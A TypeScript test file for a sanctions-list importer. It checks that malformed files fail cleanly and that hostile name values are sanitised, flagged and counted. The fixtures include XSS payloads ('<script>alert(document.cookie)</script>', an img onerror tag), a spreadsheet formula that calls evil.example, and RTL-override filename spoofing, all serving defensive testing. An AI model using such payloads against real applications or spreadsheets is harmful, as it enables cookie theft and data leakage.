// The malformed-file corpus (test/fixtures/malformed/README.md): every case fails with a clear error
// naming the problem and the line, and leaves the database exactly as it was. Then the hostile names
// (issue 22): well-formed files whose values are attacks — each record is kept, cleaned or flagged,
// with its named, counted warning, and its original in the entity's extra. Plus the CLI's contract,
// and an import killed half-way that leaves nothing behind.
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PrismaClient } from '../db/generated/client';
import { connectDatabase } from '../db/imports';
import { systemActor } from '../db/audit';
import { runImport } from './run';
import { freshImportDatabase, type FreshDb } from './testing';
import type { ImportFormat } from './types';
import type { OriginalText } from '../security/text-safety';

const FIX = path.resolve('test/fixtures/malformed');
const actor = systemActor('test:import');
let fresh: FreshDb;
let db: PrismaClient;
let tmp: string;

beforeAll(async () => {
  fresh = await freshImportDatabase();
  db = connectDatabase(fresh.url);
  tmp = mkdtempSync(path.join(tmpdir(), 'malformed-'));
  // Something to keep: the database is not empty when the bad files come.
  await runImport({ format: 'eu-csv', files: [path.resolve('data/eu/32023R1529.csv')], actor, db, editionDate: '2026-07-30' });
}, 300_000);
afterAll(async () => {
  await db?.$disconnect();
  await fresh?.drop();
});

const CASES: Array<{ name: string; format: ImportFormat; files: string[]; error: RegExp }> = [
  { name: 'truncated XML', format: 'un-xml', files: ['un-truncated.xml'], error: /un-truncated\.xml \(line \d+\): the XML ends before it is complete/ },
  { name: 'XML of another format', format: 'un-xml', files: ['un-wrong-root.xml'], error: /un-wrong-root\.xml \(line 2\): the root element is <sdnList>, not <CONSOLIDATED_LIST>/ },
  { name: 'unterminated quote', format: 'ofac-sdn-csv', files: ['sdn-unterminated-quote.csv'], error: /sdn-unterminated-quote\.csv \(line \d+\): .*(unterminated quote|not escaped|never closed)/ },
  { name: 'empty file (CSV)', format: 'ofac-sdn-csv', files: ['empty.csv'], error: /empty\.csv: the file is empty/ },
  { name: 'empty file (XML)', format: 'un-xml', files: ['empty.csv'], error: /empty\.csv: the file is empty/ },
  { name: 'wrong header', format: 'eu-csv', files: ['eu-wrong-header.csv'], error: /eu-wrong-header\.csv \(line 1\): wrong header for the EU annex CSV .*missing column\(s\) celex, recordId/ },
  { name: 'wrong header (UK)', format: 'uk-csv', files: ['uk-subjects-wrong-header.csv', 'uk-subject_names.csv'], error: /uk-subjects-wrong-header\.csv \(line 1\): wrong header for the UK list/ },
  { name: 'wrong encoding', format: 'eu-csv', files: ['eu-latin1.csv'], error: /eu-latin1\.csv \(line \d+\): the file is not valid UTF-8/ },
  { name: 'a file of the wrong format', format: 'ofac-sdn-csv', files: ['zala-first-lines.ftm.json'], error: /zala-first-lines\.ftm\.json \(line 1\): a quote in the middle of a field: not a CSV file of this format/ },
  { name: 'an XML file as CSV', format: 'eu-csv', files: ['un-truncated.xml'], error: /un-truncated\.xml \(line 1\): a quote in the middle of a field: not a CSV file of this format/ },
  { name: 'a CSV of another list', format: 'ofac-sdn-csv', files: ['eu-wrong-header.csv'], error: /eu-wrong-header\.csv \(line 1\): expected 12 fields \(OFAC SDN\.CSV layout, no header\), found 45: is this the right file and format\?/ },
  { name: 'a broken JSON line', format: 'ftm', files: ['ftm-broken-json.ftm.json'], error: /ftm-broken-json\.ftm\.json \(line 3\): not a JSON object/ },
  // The formats built to published schemas (test/fixtures/constructed): cut, re-encoded, or swapped.
  { name: 'truncated XML (OFAC advanced)', format: 'ofac-sdn-xml', files: ['sdn-advanced-truncated.xml'], error: /sdn-advanced-truncated\.xml \(line \d+\): the XML ends before it is complete/ },
  { name: 'XML of another format (OFAC advanced)', format: 'ofac-sdn-xml', files: ['un-wrong-root.xml'], error: /un-wrong-root\.xml \(line 2\): the root element is <sdnList>, not <Sanctions>: not OFAC's advanced sanctions XML/ },
  { name: 'truncated XML (EU FSF)', format: 'eu-xml', files: ['eu-fsf-truncated.xml'], error: /eu-fsf-truncated\.xml \(line \d+\): the XML ends before it is complete/ },
  { name: 'XML of another format (EU FSF)', format: 'eu-xml', files: ['un-truncated.xml'], error: /un-truncated\.xml \(line \d+\): the root element is <CONSOLIDATED_LIST>, not <export>: not an EU Financial Sanctions Files export/ },
  { name: 'XML of another format (UK XML)', format: 'uk-xml', files: ['eu-fsf-truncated.xml'], error: /eu-fsf-truncated\.xml \(line \d+\): the root element is <export>, not <Designations>/ },
  { name: 'wrong encoding (UTF-16 XML)', format: 'uk-xml', files: ['uk-list-utf16.xml'], error: /uk-list-utf16\.xml \(line 1\): the file is not valid UTF-8/ },
  { name: 'a CSV of neither UK layout', format: 'uk-csv', files: ['eu-wrong-header.csv'], error: /eu-wrong-header\.csv \(line 1\): wrong header for the UK list: expected the FCDO UK Sanctions List CSV/ },
];

describe('malformed files: a clear error, nothing written', () => {
  it.each(CASES)('$name', async ({ format, files, error }) => {
    const before = await fresh.counts();
    await expect(runImport({ format, files: files.map((f) => path.join(FIX, f)), actor, db })).rejects.toThrow(error);
    expect(await fresh.counts()).toEqual(before);
  }, 120_000);

  it('a 50 MB single line', async () => {
    const huge = path.join(tmp, 'one-line.csv');
    writeFileSync(huge, `1,"${'A'.repeat(50 * 1024 * 1024)}"`);
    const before = await fresh.counts();
    await expect(runImport({ format: 'ofac-sdn-csv', files: [huge], actor, db })).rejects.toThrow(/one-line\.csv \(line 1\): a line longer than 4 MB/);
    await expect(runImport({ format: 'ftm', files: [huge], actor, db })).rejects.toThrow(/one-line\.csv \(line 1\): a line longer than 4 MB/);
    expect(await fresh.counts()).toEqual(before);
  }, 120_000);

  it('every failed run is in the run log with its reason', async () => {
    const failed = await fresh.count(`SELECT count(*) FROM import_run WHERE status = 'FAILED' AND error IS NOT NULL`);
    expect(failed).toBe(CASES.length + 2);
  });
});

// ---------------------------------------------------------------- hostile names (issue 22)

const sha256 = (s: string) => createHash('sha256').update(s, 'utf8').digest('hex');
const MB5 = 5 * 1024 * 1024;

/** Each hostile name, what is stored, the warning it must raise (null: none) and how its original is kept. */
const HOSTILE_NAMES: Array<{ case: string; name: string; stored: string; warning: string | null; original: 'value' | 'base64' | null }> = [
  { case: 'a right-to-left override (U+202E)', name: 'Test Trading\u202Efdp.exe', stored: 'Test Tradingfdp.exe', warning: 'name: right-to-left/bidi controls removed', original: 'value' },
  { case: 'isolates and an Arabic letter mark', name: '\u2066Test\u2069 \u061CPerson', stored: 'Test Person', warning: 'name: right-to-left/bidi controls removed', original: 'value' },
  { case: '<script> markup', name: '<script>alert(document.cookie)</script> Holding', stored: '<script>alert(document.cookie)</script> Holding', warning: 'name: markup kept as text', original: null },
  { case: 'an unclosed tag', name: '<img src=x onerror=alert(1)', stored: '<img src=x onerror=alert(1)', warning: 'name: markup kept as text', original: null },
  { case: 'a spreadsheet formula', name: '=HYPERLINK("https://evil.example/?q="&A1,"Open")', stored: '=HYPERLINK("https://evil.example/?q="&A1,"Open")', warning: 'name: spreadsheet formula prefix kept as text', original: null },
  { case: 'a NUL byte', name: 'Test\u0000 Nul', stored: 'Test Nul', warning: 'name: control characters removed', original: 'base64' },
  { case: 'a C1 control and an escape', name: 'Test\u0085 C1\u001B', stored: 'Test C1', warning: 'name: control characters removed', original: 'value' },
  // Hossein Shariatmadari: ZWNJ (U+200C) inside "Shariatmadari" is how the name is spelt.
  { case: 'a Persian name with ZWNJ (kept intact)', name: 'حسین شریعت\u200Cمداری', stored: 'حسین شریعت\u200Cمداری', warning: null, original: null },
];

function pseudoRandomCjk(n: number): string {
  const out: string[] = [];
  let x = 22;
  for (let i = 0; i < n; i++) {
    x = (x * 1103515245 + 12345) % 2 ** 31;
    out.push(String.fromCharCode(0x4e00 + (x % 20000)));
  }
  return out.join('');
}

function tally(warnings: Array<string | null>): Record<string, number> {
  const out: Record<string, number> = {};
  for (const w of warnings) if (w) out[w] = (out[w] ?? 0) + 1;
  return out;
}

describe('hostile names: the record is kept, cleaned or flagged, each change a named, counted warning', () => {
  let ftm: string;
  let un: string;
  let eu: string;
  const hugeName = 'A'.repeat(MB5);
  // 5 MB of three-byte CJK characters in one word: 1,000 of them are 3,000 bytes, over a btree entry's
  // 2,704. NOTE: varied (a fixed pseudo-random sequence), not one character repeated: PostgreSQL
  // compresses an index entry, and a repeated character would fit however long it is.
  const hugeAlias = pseudoRandomCjk(Math.floor(MB5 / 3));
  const euKey = '32012R0267#VIII.A.PERSONS#900';

  beforeAll(() => {
    ftm = path.join(tmp, 'hostile-names.ftm.json');
    writeFileSync(ftm, HOSTILE_NAMES.map((h, i) => JSON.stringify({ id: `hostile-${i}`, schema: 'Person', properties: { name: [h.name] } })).join('\n') + '\n');
    // A UN list entry (the real file's layout, data/un/) whose name and alias are 5 MB each: XML
    // has no line limit, so only the import's cap stands between them and the indexes.
    un = path.join(tmp, 'hostile-huge-name.xml');
    writeFileSync(
      un,
      `<?xml version="1.0" encoding="UTF-8"?><CONSOLIDATED_LIST><INDIVIDUALS><INDIVIDUAL><DATAID>900</DATAID><VERSIONNUM>1</VERSIONNUM><FIRST_NAME>${hugeName}</FIRST_NAME>` +
        `<UN_LIST_TYPE>DPRK</UN_LIST_TYPE><REFERENCE_NUMBER>KPi.900</REFERENCE_NUMBER><LISTED_ON>2016-11-30</LISTED_ON><INDIVIDUAL_ALIAS><QUALITY>Good</QUALITY><ALIAS_NAME>${hugeAlias}</ALIAS_NAME></INDIVIDUAL_ALIAS></INDIVIDUAL></INDIVIDUALS><ENTITIES/></CONSOLIDATED_LIST>\n`,
    );
    // An EU annex row (the real header of data/eu/32012R0267.csv) with a NUL in the name and
    // overrides in an alias and the reason: CSV carries any character, XML cannot carry a NUL.
    const header = readFileSync(path.resolve('data/eu/32012R0267.csv'), 'utf8').split('\r\n')[0]!;
    const columns = header.split(',');
    const row: Record<string, string> = { celex: '32012R0267', recordId: '900', programKey: 'EU-IRN', annex: 'VIII.A.PERSONS', measure: 'Asset freeze', startDate: '24.3.2007', reason: 'Listed for \u202Esnoitcnas', schema: 'Person', name: 'Test\u0000 Eu', alias: 'Test\u202E Alias' };
    eu = path.join(tmp, 'hostile-names-eu.csv');
    writeFileSync(eu, `${header}\r\n${columns.map((c) => `"${row[c] ?? ''}"`).join(',')}\r\n`);
  });

  const ftmWarnings = tally(HOSTILE_NAMES.map((h) => h.warning));
  const unWarnings = { 'name: truncated to 1,000 characters': 1, 'alias: truncated to 1,000 characters': 1, 'alias: truncated to 2,000 bytes of UTF-8': 1 };
  const euWarnings = { 'name: control characters removed': 1, 'alias: right-to-left/bidi controls removed': 1, 'reason: right-to-left/bidi controls removed': 1 };
  const hostileWarnings = (w: Record<string, number>) => Object.fromEntries(Object.entries(w).filter(([k]) => /^(name|alias|reason): /.test(k)));

  it('a dry run reports each warning and writes nothing', async () => {
    const before = await fresh.counts();
    const runs = await fresh.count('SELECT count(*) FROM import_run');
    for (const [format, file, warnings, records] of [['ftm', ftm, ftmWarnings, HOSTILE_NAMES.length], ['un-xml', un, unWarnings, 1], ['eu-csv', eu, euWarnings, 1]] as const) {
      const r = await runImport({ format, files: [file], actor, db, dryRun: true });
      expect(r, format).toMatchObject({ created: records, runId: null });
      expect(hostileWarnings(r.report.warnings), format).toEqual(warnings);
    }
    expect(await fresh.counts()).toEqual(before);
    expect(await fresh.count('SELECT count(*) FROM import_run')).toBe(runs);
  }, 120_000);

  const entityOf = async (source: string, externalId: string) => {
    const rows = await fresh.query<{ id: string; name: string; extra: { original?: Record<string, OriginalText> } | null }>(
      `SELECT e.id, e.name, e.extra FROM entity e JOIN external_id x ON x.entity_id = e.id WHERE x.source = $1 AND x.external_id = $2`,
      [source, externalId],
    );
    expect(rows, `${source} ${externalId}`).toHaveLength(1);
    return rows[0]!;
  };
  const storedWarnings = async (runId: string | null) =>
    (await fresh.query<{ report: { warnings: Record<string, number> } }>('SELECT report FROM import_run WHERE id = $1', [runId]))[0]?.report.warnings ?? {};

  it('an apply keeps every record, cleaned, with its original in extra; the warnings are in the run report', async () => {
    const r = await runImport({ format: 'ftm', files: [ftm], actor, db });
    expect(r).toMatchObject({ created: HOSTILE_NAMES.length });
    expect(hostileWarnings(await storedWarnings(r.runId))).toEqual(ftmWarnings);
    for (const [i, h] of HOSTILE_NAMES.entries()) {
      const e = await entityOf('opensanctions', `hostile-${i}`);
      expect(e.name, h.case).toBe(h.stored);
      const original = e.extra?.original?.name;
      if (h.original === null) expect(e.extra?.original, h.case).toBeUndefined();
      else expect(original, h.case).toEqual({ [h.original]: h.original === 'value' ? h.name : Buffer.from(h.name, 'utf8').toString('base64'), length: [...h.name].length, sha256: sha256(h.name) });
    }
    // Idempotent: the same file again changes nothing.
    expect(await runImport({ format: 'ftm', files: [ftm], actor, db })).toMatchObject({ created: 0, changed: 0 });
  }, 120_000);

  it('a 5 MB name and alias are truncated, not a failed apply (index entry size)', async () => {
    const r = await runImport({ format: 'un-xml', files: [un], actor, db, editionDate: '2026-07-30' });
    expect(r).toMatchObject({ created: 1 });
    expect(hostileWarnings(await storedWarnings(r.runId))).toEqual(unWarnings);
    const e = await entityOf('un-sc', 'KPi.900');
    expect(e.name).toBe('A'.repeat(1000));
    expect(e.extra?.original?.name).toEqual({ value: 'A'.repeat(1000), length: MB5, sha256: sha256(hugeName) });
    expect(e.extra?.original?.['aliases.0.name']).toEqual({ value: hugeAlias.slice(0, 1000), length: hugeAlias.length, sha256: sha256(hugeAlias) });
    const aliases = await fresh.query<{ name: string }>('SELECT name FROM entity_alias WHERE entity_id = $1', [e.id]);
    expect(aliases.map((a) => a.name)).toEqual([hugeAlias.slice(0, 666)]);
  }, 120_000);

  it('a CSV list: NUL and overrides removed from the name, an alias and the reason, originals kept', async () => {
    const r = await runImport({ format: 'eu-csv', files: [eu], actor, db, editionDate: '2026-07-30' });
    expect(r).toMatchObject({ created: 1 });
    expect(hostileWarnings(await storedWarnings(r.runId))).toEqual(euWarnings);
    const e = await entityOf('eu-journal', euKey);
    expect(e.name).toBe('Test Eu');
    expect(e.extra?.original).toEqual({
      name: { base64: Buffer.from('Test\u0000 Eu').toString('base64'), length: 8, sha256: sha256('Test\u0000 Eu') },
      'aliases.0.name': { value: 'Test\u202E Alias', length: 11, sha256: sha256('Test\u202E Alias') },
      'designations.0.reason': { value: 'Listed for \u202Esnoitcnas', length: 21, sha256: sha256('Listed for \u202Esnoitcnas') },
    });
    expect(await fresh.query('SELECT name FROM entity_alias WHERE entity_id = $1', [e.id])).toEqual([{ name: 'Test Alias' }]);
    expect(await fresh.query(`SELECT reason FROM designation WHERE origin = 'eu-journal' AND origin_key = $1`, [euKey])).toEqual([{ reason: 'Listed for snoitcnas' }]);
  }, 120_000);
});

type Cli = { code: number | null; signal: NodeJS.Signals | null; stdout: string; stderr: string };

function cli(args: string[], url: string, onStderr?: (text: string, kill: () => void) => void): Promise<Cli> {
  return new Promise((resolve, reject) => {
    // NOTE: node itself with tsx as a loader, not the tsx wrapper: a SIGKILL must reach the importer.
    const child = spawn(process.execPath, ['--import', 'tsx', '--conditions=react-server', 'scripts/import.ts', ...args], { env: { ...process.env, DATABASE_URL: url }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => {
      stderr += d.toString();
      onStderr?.(stderr, () => child.kill('SIGKILL'));
    });
    child.on('error', reject);
    child.on('exit', (code, signal) => resolve({ code, signal, stdout, stderr }));
  });
}

describe('the CLI', () => {
  it('prints the counts as its last line, and a one-line reason with exit 1 on failure', async () => {
    // The EU annex CSV states no edition date: the apply needs --date, and says so.
    const undated = await cli(['--format', 'eu-csv', 'data/eu/32023R1529.csv'], fresh.url);
    expect(undated.code).toBe(1);
    expect(undated.stderr.trim().split('\n').at(-1)).toMatch(/^import failed: the file\(s\) state no edition date.*pass --date YYYY-MM-DD/);
    const ok = await cli(['--format', 'eu-csv', '--date', '2026-07-30', 'data/eu/32023R1529.csv'], fresh.url);
    expect(ok.code).toBe(0);
    expect(ok.stdout.trim().split('\n').at(-1)).toBe('created 0, changed 0, lifted 0, unchanged 49');
    const bad = await cli(['--format', 'un-xml', path.join(FIX, 'un-truncated.xml')], fresh.url);
    expect(bad.code).toBe(1);
    expect(bad.stderr.trim().split('\n').at(-1)).toMatch(/^import failed: un-truncated\.xml \(line \d+\): the XML ends before it is complete/);
    const usage = await cli(['--format', 'csv', 'x.csv'], fresh.url);
    expect(usage.code).toBe(1);
    expect(usage.stderr).toMatch(/--format must be one of ftm, ofac-sdn-csv, ofac-sdn-xml, un-xml, eu-csv, eu-xml, uk-csv, uk-xml/);
  }, 180_000);

  it('an import killed half-way leaves the database unchanged', async () => {
    const target = await freshImportDatabase('st_kill');
    try {
      const before = await target.counts();
      let killed = false;
      const run = await cli(['--format', 'ofac-sdn-csv', 'data/ofac-sdn/editions/sdn-2024-05-03.csv'], target.url, (text, kill) => {
        // The transaction has begun writing rows: kill it there.
        if (!killed && text.includes('writing (one transaction)')) {
          killed = true;
          kill();
        }
      });
      expect(killed).toBe(true);
      expect(run.signal).toBe('SIGKILL');
      expect(run.stdout).not.toMatch(/created/);
      expect(await target.counts()).toEqual(before);
      expect(await target.count('SELECT count(*) FROM import_run')).toBe(0);
      // And the same import then runs to the end.
      const again = await cli(['--format', 'ofac-sdn-csv', 'data/ofac-sdn/editions/sdn-2024-05-03.csv'], target.url);
      expect(again.stdout.trim().split('\n').at(-1)).toBe('created 14965, changed 0, lifted 0, unchanged 0');
    } finally {
      await target.drop();
    }
  }, 300_000);
});
